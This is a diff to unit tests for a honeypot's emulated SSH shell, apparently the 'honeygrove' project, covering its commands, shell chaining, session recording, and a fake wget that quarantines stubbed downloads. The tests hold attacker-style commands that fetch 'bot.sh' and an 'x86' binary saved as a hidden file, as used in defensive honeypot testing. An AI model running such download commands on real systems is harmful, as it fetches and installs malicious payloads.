@@ -1,14 +1,32 @@
+import os
+import tempfile
 import unittest
 
+import mock
 from twisted.conch.insults.helper import TerminalBuffer
+from twisted.conch.insults.insults import TerminalProtocol
+from twisted.test import proto_helpers
 
+from honeygrove.core.Downloader import Downloader
 from honeygrove.core.FilesystemParser import FilesystemParser
-from honeygrove.services.SSHService import SSHProtocol
+from honeygrove.core import SessionRecorder as recording
+from honeygrove.core.SessionRecorder import SessionRecorder
+from honeygrove.services.SSHService import RecordingServerProtocol, SSHProtocol
+from honeygrove.tests.Downloader_Test import StubAgent, StubResponse
 from honeygrove.tests.FTP_Test import TransportMock
 from honeygrove.tests.testresources import TestLogging
 from honeygrove.tests.testresources import testconfig as config
 
 
+class Terminal(TerminalBuffer):
+    """
+    TerminalBuffer that also accepts text, like the terminal of a session
+    """
+
+    def write(self, data):
+        super().write(data.encode() if isinstance(data, str) else data)
+
+
 class SSHTest(unittest.TestCase):
 
     def setUp(self):
@@ -24,7 +42,11 @@ class SSHTest(unittest.TestCase):
         self.ssh.l = TestLogging
 
     def test_ssh_help(self):
-        self.assertEqual(self.ssh.ssh_help("help"), self.ssh.get_help("help"))
+        text = self.ssh.get_help("help")
+        self.assertTrue(text.startswith("help: help [-dms]"))
+        self.assertEqual(self.ssh.ssh_help("help"), (text.encode(), text))
+        self.assertTrue(self.ssh.ssh_help("ls")[0].startswith("help: no help topics match `ls'."))
+        self.assertTrue(self.ssh.ssh_help()[0].startswith(b"GNU bash"))
 
     def test_handle_arguments(self):
         self.assertEqual(("", ["l","a"]), self.ssh.handle_arguments(["-la"]))
@@ -57,7 +79,7 @@ class SSHTest(unittest.TestCase):
 
     def test_ssh_mkdir(self):
         self.assertEqual(None, self.ssh.ssh_mkdir("Test"))
-        self.assertEqual("mkdir: cannot create directory 'Test': File exists", self.ssh.ssh_mkdir("Test"))
+        self.assertEqual(("mkdir: cannot create directory 'Test': File exists", None, 1), self.ssh.ssh_mkdir("Test"))
 
     def test_ssh_touch(self):
         self.assertEqual(None, self.ssh.ssh_touch("Test2"))
@@ -67,7 +89,7 @@ class SSHTest(unittest.TestCase):
         self.ssh.ssh_touch("Test3")
         self.assertEqual(None, self.ssh.ssh_rm("Test3"))
         self.ssh.ssh_mkdir("Test4")
-        self.assertEqual("rm: Test4: is a directory", self.ssh.ssh_rm("Test4"))
+        self.assertEqual(("rm: Test4: is a directory", None, 1), self.ssh.ssh_rm("Test4"))
         self.assertTrue("Test4" in self.ssh._parser.ls())
         self.assertEqual(None, self.ssh.ssh_rm("Test4", "-rf"))
         self.assertTrue("Test4" not in self.ssh._parser.ls())
@@ -75,3 +97,102 @@ class SSHTest(unittest.TestCase):
     def test_ssh_cat(self):
         self.assertEqual("user1:password1\na:b\n", self.ssh.ssh_cat("suspicious_data.txt"))
 
+    def test_ssh_wget(self):
+        quarantine = tempfile.TemporaryDirectory()
+        self.addCleanup(quarantine.cleanup)
+        agent = StubAgent()
+        agent.responses["http://example.com/bot.sh"] = StubResponse(b"#!/bin/sh\n")
+        agent.responses["http://example.com/missing.sh"] = StubResponse(code=404, phrase=b"Not Found")
+        agent.responses["http://198.51.100.7/x86"] = StubResponse(b"\x7fELF")
+        self.ssh.downloader = Downloader(quarantine.name, agent=agent)
+        self.ssh.log = TestLogging
+        self.ssh.service_name = config.sshName
+        self.ssh.remote = ("AttackerIP", 4711)
+        self.ssh.user = type("User", (), {"username": "Test"})
+        self.ssh.terminal.connectionMade()
+
+        self.ssh.ssh_wget("-q", "example.com/bot.sh")
+        output = bytes(self.ssh.terminal).decode()
+        self.assertIn("HTTP request sent, awaiting response... 200 OK", output)
+        self.assertIn("saved [10/10]", output)
+        self.assertTrue(self.ssh._parser.valid_file("bot.sh"))
+        self.assertEqual(len(os.listdir(quarantine.name)), 1)
+
+        # The value of -O is the file name, not the URL
+        self.ssh.ssh_wget("-q", "http://198.51.100.7/x86", "-O", ".x")
+        self.assertIn("Saving to: .x", bytes(self.ssh.terminal).decode())
+        self.assertTrue(self.ssh._parser.valid_file(".x"))
+        self.ssh.ssh_wget("-O", "x2", "http://198.51.100.7/x86")
+        self.assertTrue(self.ssh._parser.valid_file("x2"))
+        self.ssh.ssh_wget("--tries", "3", "--output-document=x3", "http://198.51.100.7/x86")
+        self.assertTrue(self.ssh._parser.valid_file("x3"))
+
+        self.assertEqual(self.ssh.ssh_wget("http://example.com/missing.sh").result, 1)
+        self.assertIn("ERROR 404: Not Found.", bytes(self.ssh.terminal).decode())
+        self.assertFalse(self.ssh._parser.valid_file("missing.sh"))
+
+    def test_command_line(self):
+        agent = StubAgent()
+        agent.responses["http://example.com/bot.sh"] = StubResponse(b"#!/bin/sh\n")
+        agent.responses["http://example.com/missing.sh"] = StubResponse(code=404, phrase=b"Not Found")
+        quarantine = tempfile.TemporaryDirectory()
+        self.addCleanup(quarantine.cleanup)
+        self.ssh.downloader = Downloader(quarantine.name, agent=agent)
+        self.ssh.log = mock.Mock()
+        self.ssh.service_name = config.sshName
+        self.ssh.remote = ("AttackerIP", 4711)
+        self.ssh.local_ip, self.ssh.local_port = "127.0.0.1", 22
+        self.ssh.user = type("User", (), {"username": "Test"})
+        self.ssh.terminal = Terminal()
+        self.ssh.terminal.connectionMade()
+
+        def run(line):
+            self.ssh.terminal.reset()
+            self.ssh.run_command_line(line)
+            return [l.rstrip() for l in bytes(self.ssh.terminal).decode().split("\n") if l.strip()]
+
+        self.assertEqual(run("cd /bin; pwd && echo 'a  b' | cat; missing || echo \"failed\" # comment"),
+                         ["/bin", "missing: command not found", "failed"])
+        self.assertEqual(run("echo a > out.txt; echo b 2>/dev/null >>out.txt; cat /nothing 2>&1 >/dev/null"), [])
+        self.assertTrue(self.ssh._parser.valid_file("/bin/out.txt"))
+        self.assertEqual(run("false && echo no; ./out.txt; ./x"),
+                         ["false: command not found", "-bash: ./out.txt: Permission denied",
+                          "-bash: ./x: No such file or directory"])
+        self.assertEqual(run("echo a > /missing/out"), ["-bash: /missing/out: No such file or directory"])
+        self.assertEqual(run("echo a > /missing/out; ls |"), ["-bash: syntax error: unexpected end of file"])
+        self.assertEqual(run("echo 'a"), ["-bash: unexpected EOF while looking for matching `''"])
+
+        # Commands after a download wait for it
+        self.assertEqual(run("cd /; wget -q http://example.com/bot.sh && ls | echo x && echo done")[-2:], ["x", "done"])
+        self.assertTrue(self.ssh._parser.valid_file("/bot.sh"))
+
+        # Failed commands stop && chains and run the alternatives of ||
+        self.assertEqual(run("cd /nonexistent && echo ran"), ["/nonexistent: No such file or directory"])
+        self.assertEqual(run("cat /nothing || echo fallback"),
+                         ["cat: /nothing: File or directory not found", "fallback"])
+        self.assertEqual(run("mkdir /bin || echo exists; rm /bin && echo removed"),
+                         ["mkdir: cannot create directory 'bin': File exists", "exists", "rm: /bin: is a directory"])
+        self.assertEqual(run("cd /tmp && echo ok || echo no"), ["ok"])
+        output = run("wget http://example.com/missing.sh && echo ran || echo fallback")
+        self.assertIn("ERROR 404: Not Found.", output[-2])
+        self.assertEqual(output[-1], "fallback")
+
+    def test_recording(self):
+        directory = tempfile.TemporaryDirectory()
+        self.addCleanup(directory.cleanup)
+        path = os.path.join(directory.name, "session.hgcast")
+        recorder = SessionRecorder(path)
+
+        class Echo(TerminalProtocol):
+            def keystrokeReceived(self, keyID, modifier):
+                self.terminal.write(keyID)
+
+        terminal = RecordingServerProtocol(recorder, Echo)
+        transport = proto_helpers.StringTransport()
+        terminal.makeConnection(transport)
+        terminal.dataReceived(b"ls")
+        terminal.connectionLost(None)
+
+        frames = recording.read(path)[1]
+        self.assertEqual([(kind, data) for _, kind, data in frames], [("i", b"ls"), ("o", b"l"), ("o", b"s")])
+        self.assertEqual(transport.value(), b"ls")